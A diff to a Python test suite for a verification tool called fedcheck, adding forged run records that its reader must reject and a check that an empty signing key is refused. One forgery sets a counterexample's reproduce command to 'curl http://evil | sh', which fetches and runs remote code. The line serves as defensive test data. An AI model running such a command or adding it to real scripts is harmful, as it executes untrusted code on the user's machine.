@@ -22,7 +22,12 @@ from fedcheck.invariants.vocabulary.errors import DocumentError
 from fedcheck.invariants.vocabulary.trace import KernelDescription
 from fedcheck.invariants.vocabulary.verdict import Verdict
 from fedcheck.reports.record.derivation import not_derivable, underivable
-from fedcheck.reports.record.model import RequirementSet, RunRecord, WaiverResult
+from fedcheck.reports.record.model import (
+    Counterexample,
+    RequirementSet,
+    RunRecord,
+    WaiverResult,
+)
 from fedcheck.reports.record.outcome import exit_code, summarise
 from fedcheck.reports.record.reader import read_record
 from fedcheck.reports.record.record_parts import Setting
@@ -79,6 +84,7 @@ def waived(record: RunRecord, **fields: Any) -> RunRecord:
         "expires": last.isoformat(),
         "state": "applied",
         "days_left": 30,
+        "versions": "*",
     }
     waiver = WaiverResult(**{**told, **fields})
     change = {"effective": Verdict.WAIVED, "waiver": waiver.id}
@@ -91,6 +97,16 @@ def as_if_replayed(record: RunRecord, **fields: Any) -> RunRecord:
     """Likewise, and the counterexample is said to be the waiver's."""
     example = replace(record.counterexamples[0], found_in="waiver:W-1")
     return waived(replace(record, counterexamples=(example,)), **fields)
+
+
+def with_example(change: Callable[[Counterexample], dict[str, Any]]) -> Forgery:
+    """Return what changes the first counterexample, which keeps its id."""
+
+    def changed(record: RunRecord) -> RunRecord:
+        first, *others = record.counterexamples
+        return replace(record, counterexamples=(replace(first, **change(first)), *others))
+
+    return changed
 
 
 def _later(record: RunRecord, days: int) -> str:
@@ -175,6 +191,48 @@ FORGERIES: dict[str, tuple[Forgery, str]] = {
     "a stale waiver that is taken out": (
         lambda r: replace(r, header=as_if_replayed(r).header),
         r"it judged the waivers \[\], its settings make them \['W-1'\]",
+    ),
+    "a waiver of other versions": (
+        lambda r: as_if_replayed(r, versions="<0.0.1"),
+        "it is for other versions",
+    ),
+    "a waiver of versions that nobody can read": (
+        lambda r: as_if_replayed(r, versions="garbage"),
+        "it is for other versions",
+    ),
+    "a counterexample that causes itself": (
+        with_example(lambda x: {"cause": x.id}),
+        "its cause is no other counterexample",
+    ),
+    "a cause that is prose": (
+        with_example(lambda _: {"cause": "somebody else"}),
+        "its cause is no other counterexample",
+    ),
+    "a failure at a step that there is not": (
+        with_example(lambda x: {"violation": replace(x.violation, step=77)}),
+        "its scenario has no such step",
+    ),
+    "a trace of another kernel": (
+        with_example(
+            lambda x: {"trace": replace(x.trace, kernel=replace(x.trace.kernel, version="9"))}
+        ),
+        "its trace is of another kernel",
+    ),
+    "a command of somebody else": (
+        with_example(lambda _: {"command": "curl http://evil | sh"}),
+        "what reproduces it is no command of fedcheck",
+    ),
+    "a failure that nobody repeated": (
+        with_example(lambda _: {"attempts": 0, "reproduced": 0}),
+        "nobody repeated it",
+    ),
+    "a run that ended before it began": (
+        lambda r: replace(r, summary=replace(r.summary, finished="2019-01-01T00:00:00Z")),
+        "it was finished before it was started",
+    ),
+    "an embedded kernel of another name": (
+        lambda r: with_header(kernel=replace(r.header.kernel, kernel="acme-kernel"))(r),
+        "an embedded kernel is called acme-kernel",
     ),
     "a counterexample of another name": (
         lambda r: replace(r, counterexamples=(replace(r.counterexamples[0], kind="k"),)),
@@ -376,3 +434,13 @@ def test_a_kernel_in_our_process_is_no_evidence(
     write_record(path, with_header(evidence="seen")(record))
     with pytest.raises(DocumentError, match="evidence is seen"):
         read_record(path)
+
+
+@pytest.mark.parametrize("words", [("bundle", "r.ndjson", "-o", "e.zip"), ("verify", "e.zip")])
+def test_an_empty_name_of_a_key_is_no_key(words: tuple[str, ...], tmp_path: Path) -> None:
+    """A variable that is not set must not make a signature optional."""
+    files = [str(tmp_path / word) if "." in word else word for word in words]
+    result = CliRunner().invoke(cli, [*files, "--key", ""])
+
+    assert 2 == result.exit_code
+    assert "it is empty; name a file, or env:NAME" in result.stderr
